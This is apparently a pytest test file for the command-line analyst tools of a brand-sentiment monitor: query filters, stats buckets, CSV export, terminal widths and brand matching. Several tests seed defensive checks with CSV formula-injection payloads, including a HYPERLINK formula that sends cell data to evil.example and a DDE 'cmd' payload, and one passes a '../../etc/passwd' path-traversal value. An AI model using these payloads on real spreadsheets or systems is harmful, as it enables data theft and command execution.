import csv
import io
import json
import shutil
import sqlite3
import tempfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from brandpulse.store.migrations import SCHEMA_VERSION
from brandpulse.store import open_db, transaction
from tests.store_seed import mention, seed
from tests.conftest import write_config

NOW = datetime.now(timezone.utc).replace(microsecond=0)


def _seed_five(target):
    return seed(target, [
        mention(1, "Pinebrook double charged me, I want a refund", NOW - timedelta(hours=1), "negative"),
        mention(2, "Pinebrook latte is lovely", NOW - timedelta(hours=2), "positive", source="reddit"),
        mention(3, "Pinebrook opens at 7", NOW - timedelta(days=10), "neutral"),
        mention(4, "Northwind lost my bag, refund please", NOW - timedelta(hours=3), "negative", brand="Northwind"),
        mention(5, "Pinebrook beans, four stars", NOW - timedelta(days=10, hours=1), "positive",
                source="appstore", rating=4),
    ])


@pytest.fixture
def store_path(store_target):
    """The five mentions, on SQLite and on PostgreSQL: every analyst command must read both alike."""
    return _seed_five(store_target)


@pytest.fixture
def sqlite_store_path(tmp_path):
    return _seed_five(tmp_path / "store.db")


def _json(invoke, store_path, *args):
    result = invoke("--db", store_path, *args, "--format", "json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_query_json_lists_objects_with_the_documented_fields_newest_first(invoke, store_path):
    rows = _json(invoke, store_path, "query")

    assert [r["external_id"] for r in rows] == ["1", "2", "4", "3", "5"]
    assert {"source", "external_id", "brand", "text", "created_at", "label", "score", "category", "url"} <= set(rows[0])
    assert rows[0]["score"] == -1.0 and rows[0]["category"] == "detractor"


@pytest.mark.parametrize(("args", "expected"), [
    (("--brand", "Northwind"), ["4"]),
    (("--source", "reddit"), ["2"]),
    (("--since", "1d"), ["1", "2", "4"]),
    (("--until", "5d"), ["3", "5"]),
    (("--label", "positive"), ["2", "5"]),
    (("--category", "passive"), ["3", "5"]),
    (("--min-score", "0.5"), ["2", "5"]),
    (("--max-score", "-0.5"), ["1", "4"]),
    (("--search", "refund"), ["4", "1"]),
    (("--search", '"double charged" OR lovely', "--order", "oldest"), ["1", "2"]),
    (("--search", "refund", "--brand", "Pinebrook Coffee"), ["1"]),
    (("--limit", "2"), ["1", "2"]),
    (("--all",), ["1", "2", "4", "3", "5"]),
    (("--brand", "Nobody"), []),
])
def test_query_filters_select_exactly_the_matching_mentions(invoke, store_path, args, expected):
    assert [r["external_id"] for r in _json(invoke, store_path, "query", *args)] == expected


def test_query_lists_the_complaints_to_answer_most_likely_first_and_stats_counts_them_on_both_backends(invoke,
                                                                                                     store_path):
    db = open_db(store_path)
    with transaction(db):  # 3 has no probability (as an unscored mention): it is never a complaint, and sorts last
        db.executemany("UPDATE mentions SET complaint = ? WHERE external_id = ?",
                       [(0.55, "1"), (0.05, "2"), (0.92, "4"), (0.5, "5")])
    db.close()

    def ids(*args):
        return [r["external_id"] for r in _json(invoke, store_path, "query", *args)]

    assert ids("--min-complaint", "0.5") == ["1", "4", "5"]  # newest first
    assert ids("--min-complaint", "0.5", "--order", "complaint") == ["4", "1", "5"]
    assert ids("--order", "complaint") == ["4", "1", "5", "2", "3"]
    assert ids("--min-complaint", "0.5", "--brand", "Pinebrook Coffee", "--search", "refund") == ["1"]
    assert ids("--search", "Pinebrook", "--order", "complaint") == ["1", "5", "2", "3"]
    rows = _json(invoke, store_path, "query", "--min-complaint", "0.9", "--columns", "external_id,complaint")
    assert rows == [{"external_id": "4", "complaint": 0.92}]
    # `stats` counts the complaints but the promoter's: its positive label overruled the head.
    db = open_db(store_path)
    with transaction(db):
        db.execute("UPDATE mentions SET complaint = 0.95 WHERE external_id = '2'")
    db.close()
    stats = _json(invoke, store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "week")
    assert sum(r["complaints"] for r in stats) == 2  # 1 (a detractor) and 5 (a four-star passive)


def test_query_to_answer_lists_detractors_and_a_four_star_reviews_complaint_but_no_praise_on_both_backends(
        invoke, store_path):
    db = open_db(store_path)
    with transaction(db):  # 5 is a four-star passive the head reads as a complaint; 2 is praise it misread
        db.executemany("UPDATE mentions SET complaint = ? WHERE external_id = ?",
                       [(0.55, "1"), (0.95, "2"), (0.2, "3"), (0.1, "4"), (0.5, "5")])
    db.close()

    def ids(*args):
        return [r["external_id"] for r in _json(invoke, store_path, "query", "--to-answer", *args)]

    assert ids() == ["1", "4", "5"]
    assert ids("--order", "complaint") == ["1", "5", "4"]
    assert ids("--category", "detractor") == ["1", "4"]
    assert ids("--search", "Pinebrook", "--order", "complaint") == ["1", "5"]
    # With --min-complaint 0.5: exactly the complaints stats counts.
    stats = _json(invoke, store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "week")
    assert ids("--min-complaint", "0.5", "--brand", "Pinebrook Coffee") == ["1", "5"]
    assert sum(r["complaints"] for r in stats) == 2


def test_query_by_language_takes_collectors_regional_tags_on_both_backends(invoke, store_target):
    seed(store_target, [
        mention(1, "Pinebrook is great", NOW - timedelta(hours=1), "positive", lang="en"),
        mention(2, "Pinebrook is brilliant", NOW - timedelta(hours=2), "positive", lang="en-GB"),
        mention(3, "Pinebrook ist toll", NOW - timedelta(hours=3), "positive", lang="de"),
        mention(4, "Pinebrook é ótimo", NOW - timedelta(hours=4), "positive", lang="pt_BR"),
        mention(5, "Pinebrook", NOW - timedelta(hours=5), "neutral"),
        mention(6, "Pinebrook eng", NOW - timedelta(hours=6), "neutral", lang="eng"),  # not ISO 639-1 en
        mention(7, "Pinebrook he", NOW - timedelta(hours=7), "neutral", lang="iw"),  # Twitter's tag for Hebrew
        mention(8, "Pinebrook he-IL", NOW - timedelta(hours=8), "neutral", lang="he-IL"),
    ])

    def ids(*args):
        return [r["external_id"] for r in _json(invoke, store_target, "query", *args)]

    assert ids("--lang", "en") == ["1", "2"]
    assert ids("--lang", "EN", "--search", "brilliant") == ["2"]
    assert ids("--lang", "pt") == ["4"] and ids("--lang", "de") == ["3"] and ids("--lang", "fr") == []
    assert ids("--lang", "he") == ["7", "8"] and ids("--lang", "iw") == ["7", "8"]
    exported = invoke("--db", store_target, "export", "--lang", "de", "--columns", "external_id,lang")
    assert [json.loads(line) for line in exported.stdout.splitlines()] == [{"external_id": "3", "lang": "de"}]


TAGS = ["en", "en-GB", "EN_us", "pt-BR", "pt_BR", "PT-br", "zh-Hant", "zh_Hant_TW", "iw", "iw-IL", "he", "in",
        "id-ID", "eng", "und"]


def test_query_and_export_by_language_fold_stored_tags_as_the_classifier_reads_them(invoke, tmp_path):
    from brandpulse.sentiment.language import language_tag

    target = seed(tmp_path / "store.db", [mention(i, f"Pinebrook {tag}", NOW - timedelta(hours=i), "neutral", lang=tag)
                                          for i, tag in enumerate(TAGS, start=1)])

    def ids(command, lang):
        result = invoke("--db", target, command, "--lang", lang, "--format", "json", "--columns", "external_id")
        assert result.exit_code == 0, result.output
        return sorted(int(r["external_id"]) for r in json.loads(result.stdout))

    for given in ("en", "pt_BR", "zh-Hant", "he", "iw", "id"):
        expected = [i for i, tag in enumerate(TAGS, start=1) if language_tag(tag) == language_tag(given)]
        assert ids("query", given) == ids("export", given) == expected, given


@pytest.mark.parametrize("command", ["query", "export"])
def test_query_by_a_two_letter_code_of_no_language_is_a_usage_error(invoke, store_path, command):
    result = invoke("--db", store_path, command, "--lang", "xx")

    assert result.exit_code == 2 and result.stdout == ""
    assert "'xx' is not an ISO 639-1 language code" in result.stderr and "--lang" in result.stderr


def test_query_since_accepts_iso_dates(invoke, store_path):
    since = (NOW - timedelta(days=11)).strftime("%Y-%m-%d")
    until = (NOW - timedelta(days=5)).isoformat()

    assert [r["external_id"] for r in _json(invoke, store_path, "query", "--since", since, "--until", until)] == ["3", "5"]


def test_query_table_shows_headers_and_truncates_nothing_short(invoke, store_path):
    result = invoke("--db", store_path, "query", "--brand", "Northwind", "--columns", "external_id,text")

    assert result.output.splitlines()[0].split() == ["external_id", "text"]
    assert "Northwind lost my bag, refund please" in result.output


@pytest.mark.parametrize(("args", "named"), [
    (("query", "--since", "last tuesday"), "--since"),
    (("query", "--until", "2026-13-45"), "--until"),
    (("query", "--format", "xml"), "--format"),
    (("query", "--columns", "source,sentiment"), "--columns"),
    (("query", "--search", '"unterminated'), "--search"),
    (("query", "--search", "*"), "--search"),
    (("export", "--search", "* refund"), "--search"),
    (("export", "--output", "no/such/folder/out.csv"), "--output"),
    (("stats", "--since", "1000000w"), "--since"),
    (("query", "--min-score", "7"), "--min-score"),
    (("query", "--min-complaint", "1.5"), "--min-complaint"),
    (("query", "--lang", "english"), "--lang"),
    (("export", "--lang", "e1"), "--lang"),
    (("query", "--order", "relevance"), "--order"),
    (("query", "--all", "--limit", "5"), "--all"),
    (("query", "--limit", "99999999999999999999"), "--limit"),  # was an OverflowError's traceback
    (("query", "--min-score", "0.5", "--max-score", "-0.5"), "--min-score"),  # was an empty list
    (("export", "--min-score", "0.1", "--max-score", "0"), "--max-score"),
    (("stats", "--by", "year"), "--by"),
    (("stats", "--tz", "Europe/Berln"), "--tz"),
    (("stats", "--tz", "../../etc/passwd"), "--tz"),
    (("stats", "--since", "soon"), "--since"),
    (("export", "--format", "table"), "--format"),
    (("prune", "--older-than", "forever"), "--older-than"),
])
def test_bad_input_is_a_usage_error_naming_the_argument(invoke, store_path, args, named):
    result = invoke("--db", store_path, *args)

    assert result.exit_code == 2
    assert named in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize(("upper", "lower"), [("1D", "1d"), ("5D", "5d"), ("36H", "36h"), ("1W", "1w"),
                                             ("7200S", "7200s"), ("1.5D", "1.5d")])
def test_a_duration_s_unit_is_read_in_either_case(invoke, store_path, upper, lower):
    # Was: '1D' is not a duration, while 1.5d was taken.
    assert (_json(invoke, store_path, "query", "--since", upper)
            == _json(invoke, store_path, "query", "--since", lower))


@pytest.mark.parametrize("args", [("query", "--since", "3M"), ("export", "--until", "2M"),
                                  ("prune", "--older-than", "6M")])
def test_a_capital_m_is_refused_as_ambiguous_between_minutes_and_months(invoke, sqlite_store_path, args):
    result = invoke("--db", sqlite_store_path, *args)

    assert result.exit_code == 2 and args[1] in result.output
    assert "is ambiguous: m is minutes and there is no month unit" in result.output
    # Nothing was pruned on the way.
    assert len(_json(invoke, sqlite_store_path, "query")) == 5


def test_stats_by_day_counts_labels_categories_and_nss_per_bucket(invoke, store_path, monkeypatch):
    monkeypatch.setattr("brandpulse.commands.stats._now", lambda: NOW)  # today stays NOW's day past midnight
    rows = _json(invoke, store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "day")

    assert sum(r["total"] for r in rows) == 4
    recent = [r for r in rows if r["bucket"] == (NOW - timedelta(hours=1)).strftime("%Y-%m-%d")]
    if (NOW - timedelta(hours=2)).date() == (NOW - timedelta(hours=1)).date():
        assert recent == [{"brand": "Pinebrook Coffee", "bucket": recent[0]["bucket"], "tz": "UTC", "total": 2,
                           "positive": 1, "neutral": 0, "negative": 1, "promoters": 1, "passives": 0, "detractors": 1,
                           "unscored": 0, "complaints": 0, "nss": 0.0, "unclassified": 0,
                           "partial": recent[0]["bucket"] == NOW.strftime("%Y-%m-%d")}]  # today is in progress
    old = [r for r in rows if r["total"] and r["bucket"] < (NOW - timedelta(days=5)).strftime("%Y-%m-%d")]
    # The four-star review is a passive whatever its text says: 0 promoters, 2 passives of 2.
    assert sum(r["passives"] for r in old) == 2 and all(r["nss"] == 0.0 for r in old)
    # Every day from the first to the last is there, the quiet ones with zeros, so that a chart has no holes.
    days = [date.fromisoformat(r["bucket"]) for r in rows]
    assert days == [days[0] + timedelta(days=n) for n in range(len(days))]
    quiet = [r for r in rows if not r["total"]]
    assert quiet and all(r["detractors"] == 0 and r["nss"] is None for r in quiet)


def test_stats_by_week_starts_buckets_on_monday(invoke, store_target):
    sunday = datetime(2026, 3, 1, 23, tzinfo=timezone.utc)
    path = seed(store_target, [mention(1, "a", sunday, "positive"), mention(2, "b", sunday + timedelta(hours=2), "negative")])

    rows = _json(invoke, path, "stats", "--by", "week")

    assert [(r["bucket"], r["total"], r["nss"]) for r in rows] == [("2026-02-23", 1, 100.0), ("2026-03-02", 1, -100.0)]


def test_stats_without_a_config_lists_the_brands_in_one_order_on_both_backends(invoke, store_target, tmp_path,
                                                                              monkeypatch):
    monkeypatch.chdir(tmp_path)  # no config.yaml: every brand in the store is listed
    day = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
    path = seed(store_target, [mention(1, "a", day, "positive", brand="bolt"), mention(2, "b", day, "neutral", brand=None),
                               mention(3, "c", day, "negative", brand="Zoë"), mention(4, "d", day, "neutral", brand="Acme")])

    rows = _json(invoke, path, "stats", "--by", "day")

    assert [r["brand"] for r in rows] == [None, "Acme", "Zoë", "bolt"]


def test_stats_over_a_window_without_mentions_lists_each_bucket_empty(invoke, store_path):
    rows = _json(invoke, store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "day",
                 "--since", "2020-01-01", "--until", "2020-01-04")

    assert [(r["bucket"], r["total"], r["nss"]) for r in rows] == [
        ("2020-01-01", 0, None), ("2020-01-02", 0, None), ("2020-01-03", 0, None)]


def test_stats_by_hour_within_a_window(invoke, store_target):
    base = datetime(2026, 3, 2, 9, 15, tzinfo=timezone.utc)
    path = seed(store_target, [mention(i, "x", base + timedelta(minutes=20 * i), "neutral") for i in range(7)])

    result = invoke("--db", path, "stats", "--by", "hour", "--since", "2026-03-02T10:00:00Z", "--format", "csv")

    assert list(csv.reader(io.StringIO(result.output)))[1:] == [
        ["Pinebrook Coffee", "2026-03-02T10:00:00Z", "UTC", "3", "0", "3", "0", "0", "3", "0", "0", "0", "0.0", "0",
         "False"],
        ["Pinebrook Coffee", "2026-03-02T11:00:00Z", "UTC", "1", "0", "1", "0", "0", "1", "0", "0", "0", "0.0", "0",
         "False"],
    ]


def test_export_jsonl_streams_every_matching_mention_in_storage_order(invoke, store_path):
    result = invoke("--db", store_path, "export", "--format", "jsonl", "--columns", "id,brand,text")

    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in rows] == [1, 2, 3, 4, 5]
    assert set(rows[0]) == {"id", "brand", "text"}


def test_export_csv_to_a_file_round_trips_text_with_commas_and_quotes(invoke, tmp_path, store_target):
    text = 'Pinebrook, "the" best\nsecond line'
    path = seed(store_target, [mention(1, text, NOW, "positive")])

    invoke("--db", path, "export", "--format", "csv", "-o", tmp_path / "out.csv")

    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8", newline="")))
    assert [r["text"] for r in rows] == [text]


def test_export_csv_for_excel_begins_with_a_byte_order_mark_and_json_refuses_one(invoke, tmp_path, sqlite_store_path):
    to_file = invoke("--db", sqlite_store_path, "export", "--format", "csv", "--bom", "-o", tmp_path / "out.csv")
    to_stdout = invoke("--db", sqlite_store_path, "export", "--format", "csv", "--bom", "--columns", "id")
    refused = invoke("--db", sqlite_store_path, "export", "--format", "jsonl", "--bom")

    raw = (tmp_path / "out.csv").read_bytes()
    # Excel reads a CSV without it in the system's code page ('CafÃ©'); with it, as UTF-8.
    assert to_file.exit_code == 0 and raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert next(csv.reader(raw.decode("utf-8-sig").splitlines()))[0] == "id"
    assert to_stdout.stdout.startswith("\ufeffid\n")
    assert refused.exit_code == 2 and "--bom" in refused.output


def test_sql_runs_select_and_prints_json(invoke, store_path):
    rows = _json(invoke, store_path, "sql", "SELECT brand, count(*) AS n FROM mentions WHERE label = :l GROUP BY brand ORDER BY brand",
                 "-p", "l=negative")

    assert rows == [{"brand": "Northwind", "n": 1}, {"brand": "Pinebrook Coffee", "n": 1}]


def test_sql_columns_of_one_name_each_keep_their_value(invoke, store_path):
    rows = _json(invoke, store_path, "sql", "SELECT count(*) AS n, count(*) FILTER (WHERE label = 'negative') AS n, "
                 "1 AS n_2 FROM mentions")

    assert len(rows) == 1 and rows[0]["n"] > rows[0]["n_3"] == 2 and rows[0]["n_2"] == 1


@pytest.mark.parametrize("statement", [
    "DELETE FROM mentions",
    "UPDATE mentions SET text = 'x'",
    "CREATE TABLE evil (x)",
    "PRAGMA user_version = 99",
    "INSERT INTO mentions_fts (mentions_fts) VALUES ('rebuild')",
])
def test_sql_write_is_refused_by_sqlite_without_traceback(invoke, sqlite_store_path, statement):
    store_path = sqlite_store_path
    result = invoke("--db", store_path, "sql", statement)

    assert result.exit_code == 1
    assert "readonly" in result.output or "read-only" in result.output or "query_only" in result.output
    assert "Traceback" not in result.output
    conn = sqlite3.connect(store_path)
    assert conn.execute("SELECT count(*) FROM mentions").fetchone()[0] == 5
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION


def test_sql_error_is_shown_without_traceback(invoke, store_path):
    result = invoke("--db", store_path, "sql", "SELECT nope FROM mentions")

    assert result.exit_code == 1
    # SQLite: "no such column: nope"; PostgreSQL: 'column "nope" does not exist'.
    assert "SQL error" in result.output and "nope" in result.output and "Traceback" not in result.output


def test_prune_deletes_old_mentions_and_their_search_entries(invoke, store_path):
    dry = invoke("--db", store_path, "prune", "--older-than", "7d", "--dry-run")
    result = invoke("--db", store_path, "prune", "--older-than", "7d")

    assert dry.output.startswith("2 mention(s)") and result.output.startswith("2 mention(s)")
    assert [r["external_id"] for r in _json(invoke, store_path, "export", "--columns", "external_id")] == ["1", "2", "4"]
    assert _json(invoke, store_path, "query", "--search", "opens") == []


def test_sql_json_shows_a_blob_as_its_text_or_its_hex(invoke, store_path):
    rows = _json(invoke, store_path, "sql", "SELECT CAST('hello' AS BLOB) AS text_blob, x'00ff' AS binary_blob"
                 if "://" not in str(store_path) else
                 "SELECT CAST('hello' AS bytea) AS text_blob, '\\x00ff'::bytea AS binary_blob")

    assert rows == [{"text_blob": "hello", "binary_blob": "\\x00ff"}]


def test_prune_empties_the_bodies_of_old_sent_messages_and_keeps_their_rows(invoke, store_path):
    from brandpulse.store import outbox as store_outbox

    now = datetime.now(timezone.utc)
    db = open_db(store_path)
    old, recent, waiting = (store_outbox.enqueue(db, "digest", "B", s, ["m@x.test"], b"x" * 70_000, now)
                            for s in ("old", "recent", "waiting"))
    given_up = store_outbox.enqueue(db, "alert", "B", "given up", ["m@x.test"], b"y" * 9, now - timedelta(days=20))
    store_outbox.mark_sent(db, old, "SMTP", now - timedelta(days=30))
    store_outbox.mark_sent(db, recent, "SMTP", now - timedelta(days=1))
    store_outbox.mark_failed(db, given_up, "550 no such mailbox", None)
    db.close()

    dry = invoke("--db", store_path, "prune", "--older-than", "7d", "--dry-run")
    result = invoke("--db", store_path, "prune", "--older-than", "7d")

    db = open_db(store_path)
    sizes = dict(db.execute("SELECT subject, length(message) FROM outbox").fetchall())
    db.close()
    assert "the bodies of 2 message(s) sent before then emptied" in dry.output
    assert result.exit_code == 0 and "the bodies of 2 message(s) sent before then emptied" in result.output
    assert sizes == {"old": 0, "recent": 70_000, "waiting": 70_000, "given up": 0}


def test_analyst_commands_on_a_missing_store_say_how_to_create_it(invoke, tmp_path):
    result = invoke("--db", tmp_path / "none.db", "query")

    assert result.exit_code == 1 and "does not exist" in result.output


def test_stats_lists_a_configured_brand_without_mentions_and_counts_the_unclassified(invoke, tmp_path):
    config = write_config(tmp_path / "c.yaml", "brands:\n  - {name: Acme, keywords: [acme]}\n"
                                               "  - {name: Quiet, keywords: [quiet]}\n")
    (tmp_path / "m.jsonl").write_text(
        '{"source": "x", "id": "1", "text": "acme", "created_at": "2026-03-02T10:00:00Z", "label": "negative"}\n'
        '{"source": "x", "id": "2", "text": "acme again", "created_at": "2026-03-02T11:00:00Z"}\n', encoding="utf-8")
    assert invoke("--config", config, "ingest", tmp_path / "m.jsonl", "--no-classify").exit_code == 0

    rows = json.loads(invoke("--config", config, "stats", "--since", "2026-03-02", "--until", "2026-03-03",
                             "--format", "json").stdout)

    assert [(r["brand"], r["total"], r["detractors"], r["unclassified"]) for r in rows] == [
        ("Acme", 2, 1, 1), ("Quiet", 0, 0, 0)]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_numbers_kept(invoke, tmp_path):
    now = datetime.now(timezone.utc)
    path = seed(tmp_path / "csv.db", [mention(1, '=HYPERLINK("http://evil.example/?x="&A1,"click")', now, "negative"),
                                      mention(2, "@SUM(1+1)*cmd", now, "negative"),
                                      mention(3, "plain = fine", now, "negative"),
                                      mention(4, "@PinebrookCoffee you charged me twice", now, "negative")])

    out = invoke("--db", path, "export", "--format", "csv", "--columns", "external_id,text,score").stdout

    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["text"] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(1+1)*cmd",
                                         "plain = fine", "@PinebrookCoffee you charged me twice"]  # a reply: text
    assert all(float(r["score"]) < 0 for r in rows)  # a negative number is a number, not a formula


# Each text starting with @ as a spreadsheet would read it: (text, whether it must be defused).
AT_CELLS = [("@cmd|' /C calc'!A0", True), ('@A1&HYPERLINK("http://evil.example/?x="&A1)', True),
            ("@SUM(1+1)*cmd", True), ("@A1+A2", True), ("@Sheet1!A1", True), ("@x [book.xlsx]Sheet1!A1", True),
            ("@x\n=HYPERLINK(\"http://evil.example\")", True), ("@x\tcmd", True), ("@PinebrookCoffee", False),
            ("@PinebrookCoffee you charged me twice", False), ("@pinebrook it's been 3 days, any news?", False),
            ("@alice@mastodon.social thanks, that helped", False)]


def test_csv_defuses_every_text_starting_with_at_but_a_plain_reply(invoke, tmp_path):
    now = datetime.now(timezone.utc)
    path = seed(tmp_path / "at.db", [mention(i, text, now - timedelta(minutes=i), "negative")
                                     for i, (text, _) in enumerate(AT_CELLS, start=1)])

    out = invoke("--db", path, "export", "--format", "csv", "--columns", "text").stdout

    rows = [r["text"] for r in csv.DictReader(io.StringIO(out))]
    assert sorted(rows) == sorted(("'" + text if defused else text) for text, defused in AT_CELLS)



def _columns(text):
    # Terminal columns, counted as a terminal draws them: CJK and each emoji (a ZWJ sequence too) two, combining marks
    # none (the widths themselves are checked by hand in the next tests).
    import wcwidth

    return wcwidth.wcswidth(text)


def test_query_table_keeps_columns_in_line_after_wide_characters(invoke, tmp_path):
    store = seed(tmp_path / "wide.db", [
        mention(1, "火鍋 太好吃了", NOW - timedelta(hours=1), "positive", brand="火鍋 Hotpot"),
        mention(2, "🔥👩\u200d💻 cafe\u0301", NOW - timedelta(hours=2), "negative", brand="Acme 🔥"),
        mention(3, "plain text", NOW - timedelta(hours=3), "neutral", brand="Acme"),
    ])

    result = invoke("--db", store, "query", "--columns", "brand,text,label", "--order", "oldest")

    lines = result.output.splitlines()
    words = ["label", "--------", "neutral", "negative", "positive"]
    assert len({_columns(line[:line.rindex(word)]) for line, word in zip(lines, words)}) == 1, result.output


# Each text with the columns a terminal (VTE, kitty, iTerm2, Windows Terminal) draws it in: an emoji is two, whatever
# its code points (a variation selector, a skin tone, ZWJs, a keycap's combining mark).
DRAWN = [("❤️ ok", 5), ("👍🏽 ok", 5), ("👨\u200d👩\u200d👧 ok", 5), ("1️⃣ ok", 5), ("🇯🇵 ok", 5), ("二重請求です", 12),
         ("ｶﾀｶﾅ ok", 7), ("cafe\u0301 ok", 7), ("plain", 5)]


@pytest.mark.parametrize(("text", "columns"), DRAWN)
def test_display_width_counts_an_emoji_sequence_as_the_two_columns_a_terminal_draws(text, columns):
    from brandpulse.commands.output import display_width

    # Was: 4 for 👍🏽, 6 for the family, 1 for ❤️ and 1️⃣ (east_asian_width code point by code point).
    assert display_width(text) == columns


def test_query_table_pads_each_text_to_the_same_column_whatever_its_emoji(invoke, tmp_path):
    store = seed(tmp_path / "emoji.db", [mention(n, text, NOW - timedelta(hours=n), "negative")
                                        for n, (text, _) in enumerate(DRAWN, start=1)])

    result = invoke("--db", store, "query", "--columns", "text,label", "--order", "newest")

    rows = result.output.splitlines()[2:]
    widest = max(columns for _, columns in DRAWN)
    for (text, columns), row in zip(DRAWN, rows):
        # Padded to the widest text plus the two spaces between columns: the labels line up on screen.
        assert row == text + " " * (widest - columns + 2) + "negative", result.output


@pytest.mark.parametrize("search", ["🚀", "refund 🚀", '"😡😡"', '""', "refund OR 🔥*"])
def test_a_search_term_without_a_letter_or_digit_is_refused_on_both_backends(invoke, store_path, search):
    result = invoke("--db", store_path, "query", "--search", search)

    # Neither index holds emoji: alone it found nothing, beside a word it was silently dropped (every refund listed).
    assert result.exit_code == 2, result.output
    assert "--search" in result.output and "has no word to search for" in result.output
    # Was on PostgreSQL: no word on why, where SQLite said what the indexes hold.
    assert "only letters and digits are indexed" in result.output


def test_search_syntax_without_words_of_its_own_still_works_on_sqlite(invoke, sqlite_store_path):
    for search in ("NEAR(refund bag, 5)", "refund + please", "^Northwind", "refu*", '"lost my" bag'):
        result = invoke("--db", sqlite_store_path, "query", "--search", search, "--columns", "external_id")

        assert result.exit_code == 0 and "4" in result.output.split(), (search, result.output)


def test_brand_is_matched_ignoring_case_by_query_export_and_stats_on_both_backends(invoke, store_target):
    day = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
    path = seed(store_target, [mention(1, "a", day, "positive", brand="Acme"),
                               mention(2, "b", day, "negative", brand="ÉCLAIR Café"),
                               mention(3, "c", day, "neutral", brand="Bolt")])

    assert [r["external_id"] for r in _json(invoke, path, "query", "--brand", "acme")] == ["1"]
    assert [r["external_id"] for r in _json(invoke, path, "query", "--brand", "éclair café")] == ["2"]
    exported = invoke("--db", path, "export", "--brand", "ACME", "--columns", "external_id")
    assert [json.loads(line)["external_id"] for line in exported.stdout.splitlines()] == ["1"]
    rows = _json(invoke, path, "stats", "--brand", "acme", "--since", "2026-03-02", "--until", "2026-03-03")
    assert [(r["brand"], r["total"]) for r in rows] == [("Acme", 1)]


def test_brand_and_source_typed_in_full_width_letters_match_on_both_backends(invoke, store_target):
    day = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
    path = seed(store_target, [mention(1, "a", day, "positive", brand="Pinebrook Coffee", source="reddit"),
                               mention(2, "b", day, "negative", brand="Pinebrook Coffee"),
                               mention(3, "c", day, "neutral", brand="Bolt")])
    wide = "ｐｉｎｅｂｒｏｏｋ ｃｏｆｆｅｅ"  # as a Japanese input method types it (ideographic space too)

    # Was: nothing found, as casefold leaves full-width letters full-width.
    assert [r["external_id"] for r in _json(invoke, path, "query", "--brand", wide)] == ["2", "1"]
    assert [r["external_id"] for r in _json(invoke, path, "query", "--brand", "ＰＩＮＥＢＲＯＯＫ　Ｃｏｆｆｅｅ",
                                             "--source", "ＲＥＤＤＩＴ")] == ["1"]
    exported = invoke("--db", path, "export", "--brand", wide, "--source", "ｔｗｉｔｔｅｒ", "--columns", "external_id")
    assert [json.loads(line)["external_id"] for line in exported.stdout.splitlines()] == ["2"]
    stats = invoke("--db", path, "stats", "--brand", wide, "--since", "2026-03-02", "--until", "2026-03-03",
                   "--format", "json")
    assert [(r["brand"], r["total"]) for r in json.loads(stats.stdout)] == [("Pinebrook Coffee", 2)]
    assert "holds no brand" not in stats.stderr


def test_no_brand_lists_exports_and_counts_the_mentions_stored_without_a_brand_on_both_backends(invoke, store_target):
    day = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
    path = seed(store_target, [mention(1, "a", day, "positive", brand="Acme"),
                               mention(2, "b", day, "negative", brand=None),
                               mention(3, "c", day + timedelta(hours=1), "neutral", brand=None)])

    assert [r["external_id"] for r in _json(invoke, path, "query", "--no-brand")] == ["3", "2"]
    exported = invoke("--db", path, "export", "--no-brand", "--columns", "external_id,brand")
    assert [json.loads(line) for line in exported.stdout.splitlines()] == [
        {"external_id": "2", "brand": None}, {"external_id": "3", "brand": None}]
    rows = _json(invoke, path, "stats", "--no-brand", "--since", "2026-03-02", "--until", "2026-03-03")
    assert [(r["brand"], r["total"], r["negative"]) for r in rows] == [(None, 2, 1)]


@pytest.mark.parametrize("args", [("query", "--brand", ""), ("export", "--brand", " "), ("stats", "--brand", ""),
                                  ("query", "--brand", "Acme", "--no-brand"), ("stats", "--brand", "a", "--no-brand")])
def test_an_empty_brand_or_a_brand_with_no_brand_is_a_usage_error_naming_no_brand(invoke, sqlite_store_path, args):
    result = invoke("--db", sqlite_store_path, *args)

    assert result.exit_code == 2 and "--no-brand" in result.output


def test_stats_marks_the_buckets_a_since_or_until_inside_them_cuts_as_partial_on_both_backends(invoke, store_target):
    day = datetime(2026, 3, 2, 9, tzinfo=timezone.utc)
    path = seed(store_target, [mention(i, "x", day + timedelta(days=i), "neutral") for i in range(4)])

    rows = _json(invoke, path, "stats", "--by", "day", "--since", "2026-03-02T14:00:00Z",
                 "--until", "2026-03-05T06:00:00Z")
    whole = _json(invoke, path, "stats", "--by", "day", "--since", "2026-03-03", "--until", "2026-03-05")

    assert [(r["bucket"], r["total"], r["partial"]) for r in rows] == [
        ("2026-03-02", 0, True), ("2026-03-03", 1, False), ("2026-03-04", 1, False), ("2026-03-05", 0, True)]
    assert [r["partial"] for r in whole] == [False, False]


def test_stats_marks_the_bucket_still_in_progress_as_partial(invoke, store_target, monkeypatch):
    path = seed(store_target, [mention(1, "x", NOW - timedelta(days=1), "neutral"), mention(2, "y", NOW, "neutral")])
    monkeypatch.setattr("brandpulse.commands.stats._now", lambda: NOW)  # the day stays NOW's past midnight

    rows = _json(invoke, path, "stats", "--by", "day")

    assert rows[0]["partial"] is False and rows[-1]["partial"] is True
    assert rows[-1]["bucket"] == NOW.strftime("%Y-%m-%d")


def test_stats_over_a_window_of_too_many_buckets_is_a_usage_error_naming_the_count(invoke, sqlite_store_path):
    result = invoke("--db", sqlite_store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "hour",
                    "--since", "1900-01-01", "--until", "2026-01-01")

    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "would have 1,104,504 hour buckets from 1900-01-01T00:00:00Z to 2025-12-31T23:00:00Z" in result.output


